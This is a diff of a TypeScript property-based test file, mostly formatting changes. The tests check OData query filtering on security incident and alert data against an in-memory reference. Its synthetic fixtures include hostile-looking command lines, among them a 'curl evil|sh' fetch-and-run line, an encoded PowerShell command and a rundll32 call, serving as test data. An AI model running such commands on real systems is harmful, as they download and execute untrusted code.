@@ -102,7 +102,7 @@ const CATEGORIES = ["Execution", "Persistence", "CredentialAccess", "LateralMove
 const TECHNIQUES = ["T1059", "T1059.001", "T1078", "T1566.001", "T1021", "T1003", "t1003"];
 const ASSIGNEES = ["alice@contoso.com", "Alice@contoso.com", "bob@contoso.com", "o'neil@contoso.com", "zed", "", null];
 const TAGS = ["vip", "VIP", "phishing", "ransomware", "needs-review", "tag with space", "o'tag", "%_", "Z"];
-const COMMAND_LINES = ["powershell.exe -enc SQBFAFgA", "cmd.exe /c \"whoami /all\"", "C:\\Windows\\System32\\rundll32.exe x.dll,Run", "bash -c 'curl evil|sh'"];
+const COMMAND_LINES = ["powershell.exe -enc SQBFAFgA", 'cmd.exe /c "whoami /all"', "C:\\Windows\\System32\\rundll32.exe x.dll,Run", "bash -c 'curl evil|sh'"];
 const ROLES = ["compromised", "attacker", "contextual", "suspicious", "attacked", "destination"];
 
 function hex(n: number, len: number): string {
@@ -179,7 +179,12 @@ function evidenceFor(r: Random, c: Cluster, at: number, bridge: Cluster | undefi
     }
   }
   if (r.chance(0.4)) {
-    out.push({ ...base(), "@odata.type": type("ipEvidence"), ipAddress: `10.2.${Math.floor(c.n / 250)}.${(c.n % 250) + 1}`, countryLetterCode: r.pick(["US", "NL", "us", null]) });
+    out.push({
+      ...base(),
+      "@odata.type": type("ipEvidence"),
+      ipAddress: `10.2.${Math.floor(c.n / 250)}.${(c.n % 250) + 1}`,
+      countryLetterCode: r.pick(["US", "NL", "us", null]),
+    });
   }
   if (r.chance(0.2)) out.push({ ...base(), "@odata.type": type("urlEvidence"), url: `https://evil${c.n}.example.com/p?q=${r.int(1, 3)}&x=%20` });
   if (r.chance(0.25)) {
@@ -201,7 +206,13 @@ function evidenceFor(r: Random, c: Cluster, at: number, bridge: Cluster | undefi
     });
   }
   if (r.chance(0.15)) {
-    out.push({ ...base(), "@odata.type": type("mailboxEvidence"), primaryAddress: `user${c.n}@contoso.com`, displayName: r.pick(["User Mailbox", "shared box", null]), upn: user(c) });
+    out.push({
+      ...base(),
+      "@odata.type": type("mailboxEvidence"),
+      primaryAddress: `user${c.n}@contoso.com`,
+      displayName: r.pick(["User Mailbox", "shared box", null]),
+      upn: user(c),
+    });
   }
   if (r.chance(0.08)) out.push({ ...base(), "@odata.type": type("malwareEvidence"), name: r.pick(["Trojan:Win32/Wacatac", "EICAR"]) });
   // An unknown subtype is kept as given: no defaults, so its base properties may be absent.
@@ -328,11 +339,16 @@ function distinct(values: unknown[]): unknown[] {
 
 function mutateString(s: string, how: number): string {
   switch (how) {
-    case 0: return `${s}x`;
-    case 1: return s.slice(0, -1);
-    case 2: return s.toUpperCase();
-    case 3: return s.toLowerCase();
-    default: return ` ${s}`;
+    case 0:
+      return `${s}x`;
+    case 1:
+      return s.slice(0, -1);
+    case 2:
+      return s.toUpperCase();
+    case 3:
+      return s.toLowerCase();
+    default:
+      return ` ${s}`;
   }
 }
 
@@ -350,11 +366,16 @@ function stringValue(pool: unknown[]): Arbitrary<string> {
 function formatDateTime(ms: number, form: number): string {
   const iso = new Date(ms).toISOString();
   switch (form) {
-    case 0: return iso;
-    case 1: return iso.replace(/\.\d{3}Z$/, "Z");
-    case 2: return new Date(ms + 150 * 60_000).toISOString().replace("Z", "+02:30");
-    case 3: return new Date(ms - 300 * 60_000).toISOString().replace("Z", "-05:00");
-    default: return iso.slice(0, 10);
+    case 0:
+      return iso;
+    case 1:
+      return iso.replace(/\.\d{3}Z$/, "Z");
+    case 2:
+      return new Date(ms + 150 * 60_000).toISOString().replace("Z", "+02:30");
+    case 3:
+      return new Date(ms - 300 * 60_000).toISOString().replace("Z", "-05:00");
+    default:
+      return iso.slice(0, 10);
   }
 }
 
@@ -393,7 +414,12 @@ function idLiteral(pool: unknown[], equalityOnly: boolean): Arbitrary<string> {
   const arbs: Arbitrary<string>[] = [fc.integer({ min: 0, max: max + 3 }).map((n) => quote(String(n))), fc.integer({ min: -1, max: max + 3 }).map(String)];
   if (ids.length > 0) {
     const some = fc.constantFrom(...ids);
-    arbs.push(some.map(quote), some.map(quote), some, some.map((v) => quote(`0${v}`)));
+    arbs.push(
+      some.map(quote),
+      some.map(quote),
+      some,
+      some.map((v) => quote(`0${v}`)),
+    );
   }
   if (equalityOnly) arbs.push(fc.constantFrom("'abc'", "'12a'", "''", "' 1'", "'1.0'", "'-1'", "'1234567890123456'"));
   return fc.oneof(...arbs);
@@ -402,7 +428,10 @@ function idLiteral(pool: unknown[], equalityOnly: boolean): Arbitrary<string> {
 function enumLiteral(e: GraphEnum, pool: unknown[]): Arbitrary<string> {
   const names = [...e.members, ...(e === alertDetermination ? DETERMINATION_ALIASES : [])];
   const seen = pool.filter((v): v is string => typeof v === "string");
-  const name = seen.length > 0 ? fc.oneof({ weight: 2, arbitrary: fc.constantFrom(...seen) }, { weight: 1, arbitrary: fc.constantFrom(...names) }) : fc.constantFrom(...names);
+  const name =
+    seen.length > 0
+      ? fc.oneof({ weight: 2, arbitrary: fc.constantFrom(...seen) }, { weight: 1, arbitrary: fc.constantFrom(...names) })
+      : fc.constantFrom(...names);
   return fc.tuple(name, fc.integer({ min: 0, max: 9 })).map(([n, how]) => {
     if (how === 7) return quote(n.toLowerCase());
     if (how === 8) return quote(n.toUpperCase());
@@ -437,27 +466,33 @@ function memberLiteral(e: GraphEnum, pool: unknown[]): Arbitrary<string> {
 
 function literal(s: Subject, equalityOnly: boolean): Arbitrary<string> {
   switch (s.type.kind) {
-    case "string": return stringValue(s.pool).map(quote);
-    case "number": return numberLiteral(s.pool);
-    case "datetime": return dateTimeLiteral(s.pool);
-    case "numericId": return idLiteral(s.pool, equalityOnly);
-    case "enum": return enumLiteral(s.type.graphEnum, s.pool);
-    case "member": return memberLiteral(s.type.graphEnum, s.pool);
+    case "string":
+      return stringValue(s.pool).map(quote);
+    case "number":
+      return numberLiteral(s.pool);
+    case "datetime":
+      return dateTimeLiteral(s.pool);
+    case "numericId":
+      return idLiteral(s.pool, equalityOnly);
+    case "enum":
+      return enumLiteral(s.type.graphEnum, s.pool);
+    case "member":
+      return memberLiteral(s.type.graphEnum, s.pool);
   }
 }
 
 const ORDER_OPS = ["gt", "ge", "lt", "le"] as const;
 
 function scalarAtom(s: Subject): Arbitrary<string> {
-  const op = s.ordered
-    ? fc.constantFrom("eq", "eq", "eq", "ne", "ne", ...ORDER_OPS)
-    : fc.constantFrom("eq", "eq", "ne");
+  const op = s.ordered ? fc.constantFrom("eq", "eq", "eq", "ne", "ne", ...ORDER_OPS) : fc.constantFrom("eq", "eq", "ne");
   const compare = op.chain((o) =>
-    fc.tuple(literal(s, o === "eq" || o === "ne"), fc.integer({ min: 0, max: 9 })).map(([lit, side]) =>
-      side === 0 ? `${lit} ${o} ${s.text}` : `${s.text} ${o} ${lit}`,
-    ),
+    fc
+      .tuple(literal(s, o === "eq" || o === "ne"), fc.integer({ min: 0, max: 9 }))
+      .map(([lit, side]) => (side === 0 ? `${lit} ${o} ${s.text}` : `${s.text} ${o} ${lit}`)),
   );
-  const nullCompare = fc.constantFrom("eq", "eq", "ne", "ne", "gt", "le").map((o) => (o === "gt" || o === "le") && !s.ordered ? `${s.text} eq null` : `${s.text} ${o} null`);
+  const nullCompare = fc
+    .constantFrom("eq", "eq", "ne", "ne", "gt", "le")
+    .map((o) => ((o === "gt" || o === "le") && !s.ordered ? `${s.text} eq null` : `${s.text} ${o} null`));
   const inList = fc
     .tuple(fc.array(literal(s, true), { minLength: 1, maxLength: 4 }), fc.boolean(), fc.integer({ min: 0, max: 5 }))
     .map(([lits, withNull, spaced]) => {
@@ -476,16 +511,17 @@ function scalarAtom(s: Subject): Arbitrary<string> {
 /** startswith/endswith/contains, on the subject or tolower/toupper of it, with needles cut from real values. */
 function stringFunction(s: Subject): Arbitrary<string> {
   const values = s.pool.filter((v): v is string => typeof v === "string");
-  const cut = values.length === 0
-    ? fc.string({ unit: "grapheme-ascii", maxLength: 3 })
-    : fc.tuple(fc.constantFrom(...values), fc.nat(30), fc.nat(30), fc.integer({ min: 0, max: 5 })).map(([v, i, j, how]) => {
-        if (how === 0) return v.slice(0, i % (v.length + 1));
-        if (how === 1) return v.slice(v.length - (i % (v.length + 1)));
-        if (how === 2) return v.slice(Math.min(i, j) % (v.length + 1), Math.max(i, j) % (v.length + 1));
-        if (how === 3) return v.slice(0, 3).toLowerCase();
-        if (how === 4) return "";
-        return `${v.slice(-2)}#`;
-      });
+  const cut =
+    values.length === 0
+      ? fc.string({ unit: "grapheme-ascii", maxLength: 3 })
+      : fc.tuple(fc.constantFrom(...values), fc.nat(30), fc.nat(30), fc.integer({ min: 0, max: 5 })).map(([v, i, j, how]) => {
+          if (how === 0) return v.slice(0, i % (v.length + 1));
+          if (how === 1) return v.slice(v.length - (i % (v.length + 1)));
+          if (how === 2) return v.slice(Math.min(i, j) % (v.length + 1), Math.max(i, j) % (v.length + 1));
+          if (how === 3) return v.slice(0, 3).toLowerCase();
+          if (how === 4) return "";
+          return `${v.slice(-2)}#`;
+        });
   const fn = fc.constantFrom("startswith", "endswith", "contains");
   const wrap = fc.constantFrom("", "", "tolower", "toupper");
   const call = fc.tuple(fn, wrap, cut).map(([f, w, needle]) => {
@@ -493,9 +529,9 @@ function stringFunction(s: Subject): Arbitrary<string> {
     const n = w === "tolower" ? needle.toLowerCase() : w === "toupper" ? needle.toUpperCase() : needle;
     return `${f}(${subject}, ${quote(n)})`;
   });
-  const cased = fc.tuple(fc.constantFrom("tolower", "toupper"), fc.constantFrom("eq", "eq", "ne", "gt", "le"), stringValue(s.pool)).map(
-    ([w, o, v]) => `${w}(${s.text}) ${o} ${quote(w === "tolower" ? v.toLowerCase() : v.toUpperCase())}`,
-  );
+  const cased = fc
+    .tuple(fc.constantFrom("tolower", "toupper"), fc.constantFrom("eq", "eq", "ne", "gt", "le"), stringValue(s.pool))
+    .map(([w, o, v]) => `${w}(${s.text}) ${o} ${quote(w === "tolower" ? v.toLowerCase() : v.toUpperCase())}`);
   return fc.oneof({ weight: 3, arbitrary: call }, { weight: 1, arbitrary: cased });
 }
 
@@ -535,7 +571,11 @@ function collectPools(rows: Entity[], model: RefModel): Pools {
       const sub = String(el["@odata.type"]).replace("#microsoft.graph.security.", "");
       for (const path of Object.keys(evidenceBaseProps)) add(evidence, `*:${path}`, el[path]);
       for (const path of Object.keys(evidenceSubtypeProps[sub] ?? {})) {
-        add(evidence, `${sub}:${path}`, path.split("/").reduce<unknown>((o, p) => (o as Entity | null)?.[p], el));
+        add(
+          evidence,
+          `${sub}:${path}`,
+          path.split("/").reduce<unknown>((o, p) => (o as Entity | null)?.[p], el),
+        );
       }
     }
   }
@@ -554,13 +594,7 @@ function elementType(type: Extract<PropType, { kind: "collection" }>): ScalarTyp
  * A lambda over a collection of strings or of enum members (compared with eq, ne and in only);
  * the predicate may also test `outer` conditions.
  */
-function stringLambda(
-  collection: string,
-  type: ScalarType,
-  pool: unknown[],
-  variables: readonly string[],
-  outer: Arbitrary<string> | null,
-): Arbitrary<string> {
+function stringLambda(collection: string, type: ScalarType, pool: unknown[], variables: readonly string[], outer: Arbitrary<string> | null): Arbitrary<string> {
   return fc.constantFrom(...variables).chain((v) => {
     const element: Subject = { text: v, type, pool, ordered: type.kind === "string", weight: 1 };
     const atom = outer ? fc.oneof({ weight: 3, arbitrary: scalarAtom(element) }, { weight: 1, arbitrary: outer }) : scalarAtom(element);
@@ -619,11 +653,7 @@ function evidenceAtom(v: string, pools: Pools, outer: Arbitrary<string>): Arbitr
     const { roles, verdict } = evidenceBaseProps;
     addProps({ roles: roles!, verdict: verdict! }, sub, "*");
   }
-  return fc.oneof(
-    { weight: 6, arbitrary: weighted(subjects) },
-    { weight: 2, arbitrary: fc.oneof(...nested) },
-    { weight: 1, arbitrary: outer },
-  );
+  return fc.oneof({ weight: 6, arbitrary: weighted(subjects) }, { weight: 2, arbitrary: fc.oneof(...nested) }, { weight: 1, arbitrary: outer });
 }
 
 function topAtom(model: RefModel, pools: Pools): Arbitrary<string> {
@@ -661,14 +691,19 @@ interface Query {
 }
 
 function queryArb(model: RefModel, pools: Pools, maxTop: number): Arbitrary<Query> {
-  const sortable = Object.entries(model.props).filter(([, t]) => t.kind !== "collection").map(([n]) => n);
+  const sortable = Object.entries(model.props)
+    .filter(([, t]) => t.kind !== "collection")
+    .map(([n]) => n);
   const orderItem = fc.tuple(fc.constantFrom(...sortable), fc.constantFrom("", " asc", " desc", " DESC")).map(([property, dir]) => ({
     property,
     direction: dir.trim().toLowerCase() === "desc" ? ("desc" as const) : ("asc" as const),
     written: `${property}${dir}`,
   }));
   return fc.record({
-    filter: fc.option(booleanTree(topAtom(model, pools), 3).filter((f) => f.length <= 4000), { freq: 10, nil: undefined }),
+    filter: fc.option(
+      booleanTree(topAtom(model, pools), 3).filter((f) => f.length <= 4000),
+      { freq: 10, nil: undefined },
+    ),
     orderby: fc.uniqueArray(orderItem, { maxLength: 2, selector: (o) => o.property }),
     top: fc.option(fc.integer({ min: 1, max: maxTop }), { freq: 8, nil: undefined }),
     skip: fc.option(fc.integer({ min: 0, max: 40 }), { freq: 2, nil: undefined }),
@@ -746,7 +781,16 @@ async function checkQuery(t: TestTriage, entitySet: string, model: RefModel, row
  * stays covered whatever the seed.
  */
 function regressions(which: "incidents" | "alerts_v2", rows: Entity[]): Query[] {
-  const q = (over: Partial<Query>): Query => ({ filter: undefined, orderby: [], top: undefined, skip: undefined, count: true, select: false, follow: true, ...over });
+  const q = (over: Partial<Query>): Query => ({
+    filter: undefined,
+    orderby: [],
+    top: undefined,
+    skip: undefined,
+    count: true,
+    select: false,
+    follow: true,
+    ...over,
+  });
   const asc = (property: string) => [{ property, direction: "asc" as const, written: `${property} asc` }];
   // The last instant there is, written with an offset (a later one, year 10000 in UTC, is a 400).
   const farFuture = q({ filter: "createdDateTime lt 9999-12-31T18:59:59.999-05:00 and not (createdDateTime ge 9999-12-31T18:59:59.999-05:00)" });
@@ -863,7 +907,9 @@ describe("$filter/$orderby/$top/$skip/$count agree with an in-memory reference",
         fc.asyncProperty(queryArb(model, pools, which === "incidents" ? 50 : 100), (q) => checkQuery(t, which, model, rows, defaultTop, q, stats)),
         { seed: FC_SEED, numRuns: RUNS, examples: regressions(which, rows).map((q) => [q] as [Query]) },
       );
-      console.log(`${which}: ${stats.runs} queries, ${stats.nonTrivial} with a filter matching some but not all, ${stats.followed} followed to the end (seed ${FC_SEED})`);
+      console.log(
+        `${which}: ${stats.runs} queries, ${stats.nonTrivial} with a filter matching some but not all, ${stats.followed} followed to the end (seed ${FC_SEED})`,
+      );
       expect(stats.nonTrivial).toBeGreaterThan(RUNS * 0.3);
     });
   }
